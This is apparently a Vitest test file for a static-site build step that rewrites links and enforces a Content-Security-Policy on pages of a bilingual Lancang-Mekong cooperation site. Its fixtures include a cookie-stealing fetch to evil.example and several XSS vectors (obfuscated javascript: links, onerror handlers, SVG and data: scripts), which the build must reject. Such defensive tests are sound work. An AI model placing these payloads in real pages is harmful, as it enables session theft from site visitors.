import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readFile, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { BuildError } from '../../scripts/lib/core/diagnostics';
import { finaliseSite, relativeHref } from '../../scripts/lib/publish/finalise';

const page = (body: string) => `<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>澜湄合作</title></head><body>${body}</body></html>`;

describe('finaliseSite', () => {
  test('rewrites links relative to each page and keeps every other byte, Chinese text included', async () => {
    const dist = await mkdtemp(path.join(os.tmpdir(), 'mekong-finalise-'));
    await mkdir(path.join(dist, 'zh', 'plan', '4.2.5'), { recursive: true });
    const body = '<p lang="zh-CN">推进<a href="/zh/glossary/#water">水资源</a>合作——“澜湄”</p><a href="/zh/plan/#4.2.5">4.2.5</a><img src="/favicon.svg" alt="">';
    await writeFile(path.join(dist, 'zh', 'plan', '4.2.5', 'index.html'), page(body));
    await writeFile(path.join(dist, 'index.html'), page('<a href="/zh/plan/">计划</a>'));
    const result = await finaliseSite(dist);
    expect(result.pages).toBe(2);
    const html = await readFile(path.join(dist, 'zh', 'plan', '4.2.5', 'index.html'), 'utf8');
    expect(html).toContain('<p lang="zh-CN">推进<a href="../../glossary/index.html#water">水资源</a>合作——“澜湄”</p><a href="../index.html#4.2.5">4.2.5</a><img src="../../../favicon.svg" alt="">');
    expect(html).toContain('<title>澜湄合作</title>');
    expect(await readFile(path.join(dist, 'index.html'), 'utf8')).toContain('<a href="zh/plan/index.html">计划</a>');
  });

  test("names the SHA-256 of each inline script the build emits, over its UTF-8 bytes, in every page's policy", async () => {
    const dist = await mkdtemp(path.join(os.tmpdir(), 'mekong-finalise-'));
    const script = 'document.title = "页面未找到";';
    await writeFile(path.join(dist, '404.html'), page(`<a href="/zh/">首页</a><script>${script}</script>`));
    await writeFile(path.join(dist, 'index.html'), page('<a href="/zh/">首页</a>'));
    const hash = `sha256-${createHash('sha256').update(Buffer.from(script, 'utf8')).digest('base64')}`;
    const result = await finaliseSite(dist, { inlineScripts: [script] });
    expect(result.hashes).toEqual([hash]);
    const html = await readFile(path.join(dist, '404.html'), 'utf8');
    expect(html).toContain(`script-src 'self' 'wasm-unsafe-eval' '${hash}'`);
    // The 404 page is served at any depth: its links are relative to the site root, which its script makes the base.
    expect(html).toContain('<a href="zh/index.html">首页</a>');
    expect(await readFile(path.join(dist, 'index.html'), 'utf8')).toContain(`'${hash}'`);
  });

  test('an inline script the build did not emit fails the build instead of entering the policy', async () => {
    const dist = await mkdtemp(path.join(os.tmpdir(), 'mekong-finalise-'));
    await mkdir(path.join(dist, 'zh'));
    await writeFile(path.join(dist, 'zh', 'index.html'), page('<p>推进</p><script>fetch("https://evil.example/?" + document.cookie)</script>'));
    await expect(finaliseSite(dist, { inlineScripts: ['document.title = "x";'] })).rejects.toThrow(/zh\/index\.html:1:\d+: error: Unexpected inline script \('sha256-[^']+'\), expected only the scripts of src\/lib\/inline-scripts\.ts .*\[inline-script\]/u);
    // With the build's own scripts only, too: the page's script is never hashed into a policy.
    await expect(finaliseSite(dist)).rejects.toThrow(/Unexpected inline script/u);
  });

  test('every page gets the policy: an upper-case charset is found, a page without one fails', async () => {
    const dist = await mkdtemp(path.join(os.tmpdir(), 'mekong-finalise-'));
    await writeFile(path.join(dist, 'index.html'), '<!DOCTYPE html><html lang="en"><head><META CHARSET="UTF-8"><title>x</title></head><body></body></html>');
    await finaliseSite(dist);
    expect(await readFile(path.join(dist, 'index.html'), 'utf8')).toMatch(/<META CHARSET="UTF-8"><meta http-equiv="Content-Security-Policy" content="default-src 'self';/u);
    await writeFile(path.join(dist, 'other.html'), '<!DOCTYPE html><html lang="en"><head><title>x</title></head><body></body></html>');
    await expect(finaliseSite(dist)).rejects.toThrow(/other\.html: error: Unexpected page without <meta charset="utf-8">/u);
  });
});

describe('finaliseSite reads pages as a browser does (security review L4, I7)', () => {
  test('`<script` inside an attribute value is text: the page gets its policy and the build goes on', async () => {
    const dist = await mkdtemp(path.join(os.tmpdir(), 'mekong-finalise-'));
    await mkdir(path.join(dist, 'zh'));
    // A title in a citation template, an evidence title: inert text that only looks like markup.
    await writeFile(path.join(dist, 'zh', 'index.html'), page('<div data-template="… <script>alert(1)</script> …" title="<script>x</script>"><a href="/zh/">首页</a></div>'));
    await writeFile(path.join(dist, 'index.html'), page('<p>澜湄</p>'));
    const result = await finaliseSite(dist);
    expect(result).toEqual({ pages: 2, hashes: [] });
    expect(await readFile(path.join(dist, 'zh', 'index.html'), 'utf8')).toContain('<meta http-equiv="Content-Security-Policy"');
  });

  test.each([
    ['an upper-case script', '<SCRIPT>alert(1)</SCRIPT>', 'inline-script', 3],
    ['a script left open', '<script>alert(1)', 'inline-script', 3],
    ['a script inside SVG', '<svg><script>alert(1)</script></svg>', 'inline-script', 8],
    ['an event-handler attribute', '<img src="x.png" alt="" onerror="alert(1)">', 'event-handler', 3],
    ['a javascript: link', '<a href=" JaVa&#x09;Script:alert(1)">x</a>', 'script-url', 3],
    ['a data: link', '<a href="data:text/html,<script>alert(1)</script>">x</a>', 'script-url', 3],
    ['a javascript: refresh', '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">', 'script-url', 3],
  ])('%s fails the build at its line and column, naming the page', async (_name, markup, ruleId, column) => {
    const dist = await mkdtemp(path.join(os.tmpdir(), 'mekong-finalise-'));
    await mkdir(path.join(dist, 'en'));
    await writeFile(path.join(dist, 'en', 'index.html'), `${page('<p>ok</p>')}`.replace('<body>', `<body>\n<main>\n  ${markup}`));
    const failure = await finaliseSite(dist, { shownAs: 'dist' }).then(() => undefined, (error: unknown) => error);
    expect(failure).toBeInstanceOf(BuildError);
    const [message] = (failure as BuildError).messages;
    expect(message!.file).toBe('dist/en/index.html');
    expect([message!.line, message!.column]).toEqual([3, column]);
    expect(message!.ruleId).toBe(ruleId);
    expect(message!.reason).toMatch(/^Unexpected .*, expected /u);
  });

  test('a JSON-LD data block passes and stays out of the policy; a script of any JavaScript type still fails', async () => {
    const dist = await mkdtemp(path.join(os.tmpdir(), 'mekong-finalise-'));
    await mkdir(path.join(dist, 'zh'));
    // The browser never runs a data block (HTML's script element, "data block"), so the CSP has nothing to allow.
    const data = '<script type="application/ld+json">{"@context":"https://schema.org","@type":"WebPage","name":"\\u003c/script\\u003e"}</script>';
    await writeFile(path.join(dist, 'zh', 'index.html'), page(`<p>推进</p>${data}`));
    const result = await finaliseSite(dist);
    expect(result.hashes).toEqual([]);
    const html = await readFile(path.join(dist, 'zh', 'index.html'), 'utf8');
    expect(html).toContain(data);
    expect(html).toMatch(/script-src 'self' 'wasm-unsafe-eval' '[^']+'; style-src/u);
    for (const type of ['text/javascript', 'module', 'application/ecmascript', 'TEXT/JAVASCRIPT', '']) {
      await writeFile(path.join(dist, 'zh', 'index.html'), page(`<script type="${type}">alert(1)</script>`));
      await expect(finaliseSite(dist), type).rejects.toThrow(/Unexpected inline script/u);
    }
  });
});

describe('relativeHref', () => {
  test('gives what path.posix.relative gives, from every kind of page to every kind of address', () => {
    const dirs = ['', 'zh', 'en', 'zh/lmc-poa-2023-2027', 'zh/lmc-poa-2023-2027/4.2.5', 'en/asean-china-poa-2021-2025/preamble.p1', 'sources/002_6d543889c7f48850', 'zh/topics/water'];
    const targets = ['/', '/zh/', '/zh/lmc-poa-2023-2027/', '/zh/lmc-poa-2023-2027/4.2.5/', '/zh/lmc-poa-2023-2027/4.2', '/en/glossary/#water', '/data/index.json', '/_astro/index.DZYhxVEm.css', '/zh/search/?q=水资源', '/favicon.svg', '/zh/lmc-poa-2023-2027/4.2.5/#notes', '/zh/topics/water/'];
    for (const dir of dirs) {
      for (const target of targets) {
        const [pathPart, suffix = ''] = target.slice(1).split(/(?=[?#])/u, 2) as [string, string?];
        const file = pathPart === '' || pathPart.endsWith('/') ? `${pathPart}index.html` : pathPart;
        expect(relativeHref(dir, target), `${target} from ${dir || 'the root'}`).toBe(`${path.posix.relative(dir || '.', file) || 'index.html'}${suffix}`);
      }
    }
  });

  test('keeps the whole of a query and fragment', () => {
    expect(relativeHref('zh/search', '/zh/search/?q=水资源#results')).toBe('index.html?q=水资源#results');
  });
});

